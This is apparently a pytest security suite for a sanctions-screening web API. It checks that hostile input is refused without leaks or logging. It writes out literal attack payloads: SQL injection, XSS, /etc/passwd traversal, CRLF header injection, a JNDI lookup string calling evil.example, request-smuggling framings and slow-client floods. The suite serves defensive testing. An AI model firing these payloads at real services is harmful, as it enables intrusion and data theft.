"""Hostile input is refused, told in the log, and nothing leaks."""

import json
import re
import socket
import time
import unicodedata
from collections.abc import Iterator
from urllib.parse import quote

import httpx
import pytest

from command_line import run
from enjoin.workspace.access import ROLES
from serving import Serving, add_key, loaded, served

EVIL = [
    "' OR 1=1 --",
    "Robert'); DROP TABLE journal;--",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "x\r\nSet-Cookie: enjoin_session=stolen",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "\u202egnp.exe",
    "a" * 4_000,
    "\x00",
    "𝒜" * 300,
]


PERSON = b'{"schema":"Person","properties":{"name":["Tarvok Belinska"]}}'


@pytest.fixture(scope="module")
def serving(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Serving]:
    with served(loaded(tmp_path_factory.mktemp("hostile")), "--accept-stale") as serving:
        yield serving
        code, _, told = run(serving.home, "verify")
        assert code == 0, told


def harmless(answer: httpx.Response) -> None:
    """Check that an answer tells nothing of the inside and nothing runs in a browser."""
    assert answer.status_code < 500, answer.text
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "default-src 'none'" in answer.headers["content-security-policy"]
    assert "unsafe" not in answer.headers["content-security-policy"]
    assert answer.headers["x-request-id"]
    assert "html" not in answer.headers.get("content-type", "")
    assert "set-cookie" not in answer.headers
    for word in ("Traceback", "site-packages", ".py", "sqlite", "root:", "msgspec", "litestar"):
        assert word not in answer.text
    if answer.status_code >= 400:
        assert answer.headers["content-type"].startswith("application/problem+json")
        assert answer.json()["detail"]


@pytest.mark.parametrize("text", EVIL)
def test_evil_text_is_only_text(serving: Serving, text: str) -> None:
    get, post = serving.client.get, serving.client.post
    person = {"schema": "Person", "properties": {"name": [text], text: [text]}}
    harmless(post("/match/default", json={"queries": {text: person}}))
    harmless(post("/api/v1/screen", json={"party": {"name": text[:1000], "schema": text}}))
    harmless(post("/api/v1/screen", json={"party": {"name": text[:1000]}, "lists": [text]}))
    harmless(post("/api/v1/read", json={"name": text, "text": text}))
    harmless(post("/reconcile/default", data={"queries": json.dumps({"q": {"query": text}})}))
    harmless(get("/search/default", params={"q": text[:500], "sort": text, "filter": text}))
    harmless(get("/search/default", params={"q": text[:500], "topics": text}))
    harmless(get("/api/v1/lists", params={"on": text}))
    harmless(get("/api/v1/measures", params={"target": text}))


@pytest.mark.parametrize("text", EVIL)
@pytest.mark.parametrize(
    "path", ["/entities/", "/match/", "/search/", "/api/v1/jobs/", "/api/v1/entities/"]
)
def test_an_evil_path_leads_nowhere(serving: Serving, path: str, text: str) -> None:
    harmless(serving.client.get(path + quote(text, safe="")))


def test_an_evil_header_stays_out_of_the_answer(serving: Serving) -> None:
    for name in ("X-Request-ID", "X-Forwarded-For", "X-Forwarded-Host", "User-Agent"):
        answer = serving.client.get("/healthz", headers={name: "<evil>\t';--"})
        assert "evil" not in str(answer.headers) + answer.text
    assert (
        serving.client.get("/healthz", headers={"X-Request-ID": "abc-1"}).headers["x-request-id"]
        == "abc-1"
    )


@pytest.mark.parametrize(
    ("body", "status"),
    [
        (b"", 400),
        (b"{", 400),
        (b"[" * 100_000, 400),
        (b'{"queries":' * 50_000, 400),
        (b'{"queries":{"q":{"schema":"Person","properties":{"name":' + b"[" * 90_000, 400),
        (b'{"queries":{"q":' + b'{"a":' * 90_000, 400),
        (b'{"queries":{}}', 400),
        (b"\xff\xfe\x00", 400),
        (b'{"queries":{"q":{"schema":"Person","properties":{"name":["\\ud800"]}}}}', 400),
        (b'{"queries":' + b" " * 2_100_000 + b"{}}", 413),
        (b"null", 400),
        (b'{"queries":{"q":{"schema":"Person","properties":{"name":"NaN","x":[1e999]}}}}', 400),
        (b'{"queries":{"q":{"schema":"Person","properties":{"name":[NaN]}}}}', 400),
        (b'{"queries":{"q":{"schema":"Person","properties":{"name":[Infinity]}}}}', 400),
        (b'{"queries":{"q":{"schema":"Person","properties":{"a":[' + b"9" * 90_000 + b"]}}}}", 400),
        (b'{"queries":{"q":%s,"q":%s}}' % (PERSON, PERSON), 400),
        (b'{"queries":{"q":%s},"queries":{"r":%s}}' % (PERSON, PERSON), 400),
        (b'{"queries":{"q":%s},"weights":{"name":NaN}}' % PERSON, 400),
        (b'{"queries":{"q":%s},"weights":{"name":-1e-999}}' % PERSON, 200),
        (b"\xef\xbb\xbf{}", 400),
    ],
    ids=lambda value: str(value)[:30],
)
def test_a_broken_body_is_refused(serving: Serving, body: bytes, status: int) -> None:
    headers = {"Content-Type": "application/json"}
    answer = serving.client.post("/match/default", content=body, headers=headers)
    harmless(answer)
    assert answer.status_code == status


def test_a_body_that_lies_about_its_length_is_refused(serving: Serving) -> None:
    def endless() -> Iterator[bytes]:
        for _ in range(60):
            yield b" " * 100_000

    try:  # on a connection of its own: the service ends it, and nobody else shall have it
        answer = httpx.post(f"{serving.url}/match/default", content=endless())
        assert answer.status_code == 413
        assert answer.headers["connection"] == "close"
    except httpx.TransportError:
        pass  # the service hung up, as it may


def test_too_many_at_once_are_refused(serving: Serving) -> None:
    person = {"schema": "Person", "properties": {"name": ["Tarvok Belinska"]}}
    queries = {str(n): person for n in range(501)}
    answer = serving.client.post("/match/default", json={"queries": queries})
    assert answer.status_code == 400
    assert "up to 500" in answer.json()["detail"]


def test_slow_clients_keep_nobody_waiting(serving: Serving) -> None:
    slow = [socket.create_connection(("127.0.0.1", serving.port)) for _ in range(200)]
    try:
        for number, connection in enumerate(slow):
            connection.sendall(b"POST /match/default HTTP/1.1\r\nHost: localhost\r\n")
            if number % 2:
                connection.sendall(b"Content-Length: 1000\r\n\r\n{")
        began = time.monotonic()
        for _ in range(20):
            assert serving.client.get("/readyz").status_code == 200
        assert time.monotonic() - began < 2
    finally:
        for connection in slow:
            connection.close()


def test_methods_that_are_not_there_are_told(serving: Serving) -> None:
    for method in ("PUT", "PATCH", "DELETE", "TRACE", "PROPFIND"):
        answer = serving.client.request(method, "/match/default")
        harmless(answer)
        assert answer.status_code in {404, 405}


def test_nothing_of_what_was_sent_is_in_the_log(serving: Serving) -> None:
    body = {"party": {"name": "Zebulon Quixwright"}}
    assert serving.client.post("/api/v1/screen", json=body).status_code == 200
    serving.client.get("/search/default", params={"q": "Zebulon Quixwright"})
    serving.client.get("/entities/Zebulon-Quixwright")
    time.sleep(0.2)
    lines = [json.loads(line) for line in serving.said if line.startswith("{")]
    assert {"at", "level", "event", "id", "route", "status", "ms", "who"} <= lines[-1].keys()
    assert "Quixwright" not in serving.log


def test_of_two_queries_of_one_name_none_is_dropped_in_silence(serving: Serving) -> None:
    body = b'{"queries":{"q":%s,"q":{"schema":"Person","properties":{"name":["Jo Poe"]}}}}' % PERSON
    for kind in ("application/json; charset=utf-8", "text/plain", "APPLICATION/JSON", "", "a/b"):
        headers = {"Content-Type": kind}
        answer = serving.client.post("/match/default", content=body, headers=headers)
        assert answer.status_code == 400
        assert "twice" in answer.json()["detail"]


JSON_TAKEN = [
    "/match/default",
    "/api/v1/screen",
    "/api/v1/screen/many",
    "/api/v1/compare",
    "/api/v1/assess",
    "/api/v1/own?regime=EU",
    "/api/v1/lift-test",
    "/api/v1/read",
    "/api/v1/brief",
    "/api/v1/session",
]
BROKEN = [
    b"[" * 200_000,
    b'{"a":' * 200_000,
    b'{"a":1,"a":2}',
    b"9" * 50_000,
    b'"' + b"a" * 100_000 + b'"',
    b'{"' + b"a" * 100_000 + b'":1}',
    b"{}" * 10,
    b"[]",
    b"-",
    b"\x00",
]


@pytest.mark.parametrize("path", JSON_TAKEN)
@pytest.mark.parametrize("body", BROKEN, ids=lambda value: str(value)[:20])
def test_what_is_no_body_is_refused_everywhere(serving: Serving, path: str, body: bytes) -> None:
    headers = {"Content-Type": "application/json"}
    answer = serving.client.post(path, content=body, headers=headers)
    harmless(answer)
    assert answer.status_code in {400, 429}


def screening(**headers: str) -> bytes:
    """Write a request to screen, as it goes over the wire, with headers of ours first."""
    told = "".join(f"{name.replace('_', '-')}: {value}\r\n" for name, value in headers.items())
    body = b'{"party":{"name":"Tarvok Belinska"}}'
    rest = f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
    return f"POST /api/v1/screen HTTP/1.1\r\n{told}{rest}".encode() + body


def test_who_speaks_to_this_machine_by_its_name_is_answered(serving: Serving) -> None:
    for host in ("localhost", "127.0.0.1:8000", "[::1]:8000", "LOCALHOST"):
        assert (
            b" 200 " in serving.raw(screening(Host=host, Connection="close"), 10).split(b"\r\n")[0]
        )


@pytest.mark.parametrize(
    "host",
    [
        "evil.example",
        "localhost.evil.example",
        "localhost@evil.example",
        "evil.example#localhost",
        "evil.example/localhost",
        "evil.example\\@localhost",
        "localhost, evil.example",
        "[::1",
        "0.0.0.0",
        "127.0.0.2",
        "2130706433",
        "",
    ],
)
def test_a_name_that_is_not_this_machines_opens_nothing(serving: Serving, host: str) -> None:
    """A page may have a name of its own lead here: the browser then tells that name."""
    answer = serving.raw(screening(Host=host, Connection="close"), 10)
    assert answer[9:12] in {b"400", b"401"}, answer[:200]


def test_no_name_or_two_open_nothing(serving: Serving) -> None:
    unnamed = serving.raw(screening(Connection="close"))
    assert unnamed[9:12] in {b"400", b"401"}
    twice = screening(Host="evil.example", Connection="close").replace(
        b"Content-Type", b"Host: localhost\r\nContent-Type", 1
    )
    assert serving.raw(twice)[9:12] in {b"400", b"401"}
    absolute = screening(Host="localhost", Connection="close").replace(
        b"POST /api", b"POST http://evil.example/api", 1
    )
    assert serving.raw(absolute)[9:12] != b"500"


HIDDEN = b"GET /api/v1/lists HTTP/1.1\r\nHost: localhost\r\n\r\n"
_CHUNKED = "Transfer-Encoding: chunked"


def test_two_requests_are_two(serving: Serving) -> None:
    """What the tests below must not see."""
    assert serving.raw(HIDDEN + HIDDEN).count(b'"source"') == 2


@pytest.mark.parametrize(
    ("framing", "body"),
    [
        (f"Content-Length: 0\r\nContent-Length: {len(HIDDEN)}", b""),
        (f"Content-Length: 0, {len(HIDDEN)}", b""),
        ("Content-Length: +0", b""),
        ("Content-Length: -1", b""),
        ("Content-Length: 0x0", b""),
        ("Content-Length: 99999999999999999999999", b""),
        (f"Content-Length: 5\r\n{_CHUNKED}", b"0\r\n\r\n"),
        (f"{_CHUNKED}\r\nContent-Length: 5", b"0\r\n\r\n"),
        ("Transfer-Encoding : chunked", b"0\r\n\r\n"),
        ("Transfer-Encoding: xchunked", b"0\r\n\r\n"),
        ("Transfer-Encoding: chunked, identity", b"0\r\n\r\n"),
        (" Transfer-Encoding: chunked", b"0\r\n\r\n"),
        ("X: y\n\tTransfer-Encoding: chunked", b"0\r\n\r\n"),
        (_CHUNKED, b"-1\r\n\r\n"),
        (_CHUNKED, b"fffffffffffffffff\r\n\r\n"),
        (_CHUNKED, b"0x0\r\n\r\n"),
        (_CHUNKED, b"1\nx\n0\n\n"),
    ],
)
def test_no_request_hides_in_another(serving: Serving, framing: str, body: bytes) -> None:
    """What a proxy may take for the end of a body and we for a request, or the other way round."""
    head = f"POST /match/default HTTP/1.1\r\nHost: localhost\r\n{framing}\r\n\r\n".encode()
    answer = serving.raw(head + body + HIDDEN)
    assert answer.startswith(b"HTTP/1.1 400 ")
    assert answer.count(b"HTTP/1.1") == 1
    assert b'"source"' not in answer


@pytest.mark.parametrize(
    "sent",
    [
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 200,
        b"GET / HTTP/9.9\r\n\r\n",
        b"GET /\r\n\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\nHost: localhost\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: localhost\r\n" + b"X: y\r\n" * 5_000 + b"\r\n",
        b"GET / HTTP/1.1\r\nHost: localhost\r\nX: " + b"y" * 1_000_000 + b"\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: localhost\r\nX\x00Y: z\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: localhost\r\nX: a\x00b\r\n\r\n",
        b"GET /\x01\x1b[2J HTTP/1.1\r\nHost: localhost\r\n\r\n",
        b"CONNECT evil.example:443 HTTP/1.1\r\nHost: localhost\r\n\r\n",
        b"\r\n" * 10_000,
    ],
    ids=lambda value: str(value)[:30],
)
def test_what_is_no_request_is_refused_and_the_service_goes_on(
    serving: Serving, sent: bytes
) -> None:
    try:
        answer = serving.raw(sent)
    except OSError:  # it hung up before all was sent, as it may
        answer = b""
    assert b"HTTP/1.1 200" not in answer
    assert serving.client.get("/healthz").status_code == 200


@pytest.mark.parametrize(
    "path",
    [
        "/../../../../etc/passwd",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/desk/static/../../../../etc/passwd",
        "/desk/static/%2e%2e%2f%2e%2e%2fetc/passwd",
        "//evil.example/",
        "/\\evil.example",
        "/%5cevil.example",
        "/desk//evil.example",
        "/entities/%0d%0aSet-Cookie:%20a=b",
        "/api/v1/jobs/../../../enjoin.db",
        "/api/v1/jobs/%00/result",
        "/api/v1/jobs/..%2f..%2fenjoin.db/result",
    ],
)
def test_no_path_leads_out_of_the_service(serving: Serving, path: str) -> None:
    answer = serving.raw(
        f"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode()
    )
    head, _, body = answer.partition(b"\r\n\r\n")
    assert b"root:" not in body
    assert b"SQLite" not in body
    assert b"set-cookie" not in head.lower()
    assert b"HTTP/1.1 5" not in head
    for line in head.split(b"\r\n"):
        if line.lower().startswith(b"location:"):
            assert line.split(b":", 1)[1].strip().startswith(b"/desk"), line


@pytest.mark.parametrize("method", ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"])
def test_a_method_is_what_it_says(serving: Serving, method: str) -> None:
    answer = serving.client.post(f"/api/v1/jobs/{'0' * 32}", headers={method: "DELETE"})
    assert answer.status_code == 405
    answer = serving.client.get("/api/v1/journal/head?_method=POST", headers={method: "POST"})
    assert answer.status_code == 403


#: Which act each operation takes; None: nobody needs to be known. A new one is told here.
ACTS: dict[str, str | None] = {
    "POST /match/{dataset}": "screen",
    "GET /search/{dataset}": "screen",
    "GET /entities/{entity_id}": "look",
    "GET /entities/{entity_id}/adjacent": "look",
    "GET /entities/{entity_id}/adjacent/{property_name}": "look",
    "GET /catalog": "look",
    "GET /algorithms": "look",
    "GET /healthz": None,
    "GET /readyz": None,
    "GET /reconcile/{dataset}": None,
    "POST /reconcile/{dataset}": "screen",
    "GET /reconcile/{dataset}/suggest/{kind}": "screen",
    "GET /reconcile/{dataset}/extend/property": "screen",
    "GET /metrics": "audit",
    "POST /api/v1/screen": "screen",
    "POST /api/v1/screen/many": "screen",
    "POST /api/v1/compare": "screen",
    "GET /api/v1/lists": "look",
    "GET /api/v1/lists/{source}/delta": "look",
    "GET /api/v1/entities/{entity_id}": "look",
    "GET /api/v1/measures": "look",
    "POST /api/v1/assess": "report",
    "POST /api/v1/own": "report",
    "POST /api/v1/decide": "decide",
    "POST /api/v1/lift-test": "report",
    "POST /api/v1/read": "report",
    "POST /api/v1/brief": "report",
    "GET /api/v1/journal/head": "audit",
    "POST /api/v1/journal/verify": "audit",
    "POST /api/v1/jobs/screen-table": "screen",
    "GET /api/v1/jobs": "screen",
    "GET /api/v1/jobs/{job_id}": "screen",
    "GET /api/v1/jobs/{job_id}/{part}": "screen",
    "DELETE /api/v1/jobs/{job_id}": "screen",
    "GET /api/v1/people": "administer",
    "PUT /api/v1/people/{name}": "administer",
    "DELETE /api/v1/people/{name}": "administer",
    "GET /api/v1/keys": "administer",
    "POST /api/v1/keys": "administer",
    "DELETE /api/v1/keys/{name}": "administer",
    "POST /api/v1/session": None,
    "GET /api/v1/session": "look",
    "DELETE /api/v1/session": "look",
}
#: Asks for the update itself, by a token or a role; told apart in test_http_access.
ELSEWHERE = {"POST /updatez"}


def test_no_role_uses_what_is_anothers(serving: Serving) -> None:
    described = serving.client.get("/openapi.json").json()["paths"]
    operations = {f"{m.upper()} {path}" for path, of in described.items() for m in of}
    assert operations - ELSEWHERE == ACTS.keys()
    keys = {role: add_key(serving.home, f"the-{role}", role) for role in ROLES}
    wrong = []
    for operation, act in ACTS.items():
        method, _, path = operation.partition(" ")
        path = re.sub(r"\{\w+\}", "nobody", path)
        for role, header in keys.items():
            status = serving.client.request(method, path, headers=header).status_code
            allowed = act is None or act in ROLES[role]
            if allowed is (status in {401, 403}) and path != "/api/v1/session":
                wrong.append(f"{role}: {operation}: {status}")
    assert not wrong, "\n".join(wrong)


def test_without_a_key_nothing_opens_but_what_is_open(serving: Serving) -> None:
    for operation, act in ACTS.items():
        method, _, path = operation.partition(" ")
        path = re.sub(r"\{\w+\}", "nobody", path)
        answer = serving.client.request(method, path, headers={"Authorization": "Bearer no"})
        assert (answer.status_code == 401) is (act is not None), operation


def test_a_token_is_good_for_what_it_is(serving: Serving) -> None:
    """A session is no key, a key no session, and one session's forms are not another's."""
    sessions = []
    for name in ("eve", "dan"):
        password = "correct horse battery"
        command = ("user", "add", name, "--role", "reviewer", "--password", password)
        assert run(serving.home, *command)[0] == 0
        body = {"name": name, "password": password}
        answer = httpx.post(f"{serving.url}/api/v1/session", json=body)
        sessions.append((answer.cookies["enjoin_session"], answer.json()["csrf"]))
    (eve, eves), (dan, dans) = sessions
    key = add_key(serving.home, "robot")["Authorization"].split()[1]
    where = f"{serving.url}/api/v1/compare"
    body = {"name": "a", "other": "b"}

    def sent(**headers: str) -> int:
        named = {name.replace("_", "-"): value for name, value in headers.items()}
        return httpx.post(where, json=body, headers=named).status_code

    assert sent(Cookie=f"enjoin_session={eve}", X_CSRF_Token=eves) == 200
    assert sent(Cookie=f"enjoin_session={eve}", X_CSRF_Token=dans) == 403
    assert sent(Cookie=f"enjoin_session={eve}", X_CSRF_Token=eve) == 403
    assert sent(Cookie=f"enjoin_session={key}", X_CSRF_Token=eves) == 401
    assert sent(Authorization=f"Bearer {dan}") == 401
    assert sent(Authorization="Bearer", Cookie=f"enjoin_session={dan}", X_CSRF_Token=dans) == 401
    text = httpx.post(
        where,
        content=b'{"name":"a","other":"b"}',
        headers={"Content-Type": "text/plain", "Cookie": f"enjoin_session={eve}"},
    )
    assert text.status_code == 403


def test_no_page_of_another_site_signs_somebody_in(serving: Serving) -> None:
    body = {"name": "eve", "password": "correct horse battery"}
    headers = {"Sec-Fetch-Site": "cross-site"}
    answer = serving.client.post("/api/v1/session", json=body, headers=headers)
    assert answer.status_code == 403
    assert "set-cookie" not in answer.headers


@pytest.mark.slow
def test_who_sends_too_slowly_is_sent_away(serving: Serving) -> None:
    """Twenty seconds for a body, ten for a header; what is asked meanwhile is answered."""
    began = b"POST /match/default HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    sent = {
        "chunks without end": began + b"Transfer-Encoding: chunked\r\n\r\n1\r\n{\r\n",
        "a body that stops": began + b"Content-Length: 1000\r\n\r\n{",
        "a header that stops": began,
        "nothing at all": b"",
    }
    open_ = {}
    for what, data in sent.items():
        open_[what] = socket.create_connection(("127.0.0.1", serving.port), 40)
        open_[what].sendall(data)
    ends = time.monotonic() + 40
    received: dict[str, bytes] = {}
    for what, connection in open_.items():
        with connection:
            connection.settimeout(max(ends - time.monotonic(), 1))
            received[what] = b"".join(iter(lambda c=connection: c.recv(65_536), b""))  # type: ignore[misc]
    assert time.monotonic() < ends
    assert b" 408 " in received["chunks without end"].split(b"\r\n")[0]
    assert b" 408 " in received["a body that stops"].split(b"\r\n")[0]
    assert b"HTTP/1.1 200" not in received["a header that stops"] + received["nothing at all"]


def test_every_line_of_the_log_is_one_object_without_control_characters(serving: Serving) -> None:
    odd = "\u2028\u202eQuixwright\x1b[2J"
    serving.client.get(f"/search/default?q={quote(odd)}", headers={"X-Request-ID": "a b"})
    serving.client.get(f"/{quote(odd)}")
    serving.client.request("QUIXWRIGHT", "/healthz")
    serving.client.post("/api/v1/compare", json={"name": odd, "other": odd})
    time.sleep(0.2)
    told = [line for line in serving.said if not line.startswith(("Enjoin answers", "sign in"))]
    for line in told:
        assert isinstance(json.loads(line), dict)
        assert not [c for c in line[:-1] if unicodedata.category(c) in {"Cc", "Cf", "Zl", "Zp"}]
    assert "Quixwright" not in serving.log
    assert "Belinska" not in serving.log
